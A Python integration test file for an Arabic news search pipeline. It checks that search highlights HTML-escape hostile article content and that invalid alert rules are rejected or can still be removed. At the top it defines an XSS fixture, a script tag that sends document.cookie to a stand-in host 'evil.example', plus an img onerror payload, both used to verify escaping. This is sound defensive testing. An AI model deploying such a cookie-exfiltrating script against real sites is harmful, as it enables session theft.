"""Hostile content and rules against the real engine: highlights are HTML-safe, a rule the engine
refuses is never saved, and a broken rule in the file neither blocks the others nor its own removal."""

from __future__ import annotations

from datetime import UTC, datetime

import pytest
import yaml
from typer.testing import CliRunner

from pipeline.alerts.rules import RuleStore
from pipeline.models import ArticleEnriched
from pipeline.search import engine, templates
from pipeline.search.percolator import register_rules, registered_rules
from pipeline.search.query import search_articles

pytestmark = pytest.mark.integration

SCRIPT = "<script>fetch('//evil.example/'+document.cookie)</script>"
IMG = '<img src=x onerror="alert(1)">'


@pytest.fixture(scope="module")
def hostile_article(search_client: engine.Client, settings, search_setup: dict) -> ArticleEnriched:
    article = ArticleEnriched(
        id="hostile-1", url="https://news.example/hostile", outlet="hostile", source="hostile",
        title=f"انسحاب القوات {IMG}", published_at=datetime(2021, 12, 1, tzinfo=UTC),
        text=f"قال المتحدث إن انسحاب القوات {SCRIPT} سيكتمل {IMG} قبل نهاية العام الجاري في العراق.",
    )
    result = engine.bulk(search_client, [{"_index": templates.index_for(article, settings), "_id": article.id,
                                          "_source": templates.to_document(article)}], refresh=True)
    assert result.errors == []
    return article


def test_highlights_escape_article_markup(search_client, settings, hostile_article):
    (hit,) = [h for h in search_articles(search_client, settings, "انسحاب", size=10) if h.id == "hostile-1"]
    assert hit.highlights, hit
    joined = " ".join(hit.highlights)
    assert "<em>" in joined and "</em>" in joined  # the engine's own tags stay markup
    assert "<script" not in joined and "<img" not in joined and "onerror=\"" not in joined
    assert "&lt;script&gt;" in joined or "&lt;img" in joined  # the article's markup is text


@pytest.fixture
def rules_cli(settings, search_client, tmp_path, monkeypatch):
    from pipeline.settings import get_settings

    prefix = f"{settings.index_prefix}-hostilerules"
    monkeypatch.setenv("RAQIB_INDEX_PREFIX", prefix)
    monkeypatch.setenv("RAQIB_RULES_FILE", str(tmp_path / "rules.yaml"))
    get_settings.cache_clear()
    yield RuleStore(tmp_path / "rules.yaml"), get_settings()
    get_settings.cache_clear()
    if engine.index_exists(search_client, f"{prefix}-rules"):
        engine.delete_indices(search_client, f"{prefix}-rules")


def _raqib(*args: str):
    from pipeline import cli

    result = CliRunner().invoke(cli.app, list(args))
    return result.exit_code, result.output + result.stderr


def test_rule_with_an_unknown_field_is_not_saved(rules_cli, search_client):
    store, live = rules_cli
    code, out = _raqib("rules", "add", "broken", "-q", "nosuchfield:انسحاب")
    assert code == 2 and "Invalid rule" in out and "nosuchfield" in out, out
    assert store.load() == []  # nothing saved: the other commands keep working
    code, out = _raqib("rules", "add", "good", "-q", "انسحاب")
    assert code == 0, out
    assert [r.name for r in store.load()] == ["good"]
    assert "good" in registered_rules(search_client, live)


def test_a_broken_rule_in_the_file_blocks_neither_the_others_nor_its_removal(rules_cli, search_client):
    store, live = rules_cli
    store.path.write_text(yaml.safe_dump({"rules": [
        {"name": "broken", "query": "nosuchfield:x"},
        {"name": "good", "query": "انسحاب"},
    ]}), encoding="utf-8")
    with pytest.raises(Exception, match="broken") as info:
        register_rules(search_client, live, store.list())  # what the worker does at start
    assert "other rule(s) registered" in str(info.value)  # good and the built-in ones
    registered = registered_rules(search_client, live)
    assert "good" in registered and "broken" not in registered  # the good one matches all the same
    code, out = _raqib("rules", "add", "other", "-q", "القوات")
    assert code == 0 and "warning" in out and "broken" in out, out
    code, out = _raqib("rules", "remove", "broken")
    assert code == 0 and "removed rule broken" in out, out
    assert [r.name for r in store.load()] == ["good", "other"]
    assert sorted(n for n in registered_rules(search_client, live) if n in ("good", "other", "broken")) == \
        ["good", "other"]


def test_a_rule_that_no_longer_loads_can_be_removed(rules_cli):
    store, _ = rules_cli
    store.path.write_text(yaml.safe_dump({"rules": [
        {"name": "old", "query": "x", "notify": "everyone"},  # a key this version does not know
        {"name": "older", "query": "x", "channels": [{"type": "webhook", "url": "https://h.example/x",
                                                     "secret_env": "HOME"}]},
        {"name": "kept", "query": "y"},
    ]}), encoding="utf-8")
    for name in ("old", "older"):
        code, out = _raqib("rules", "remove", name)
        assert code == 0, out
    assert [r.name for r in store.load()] == ["kept"]
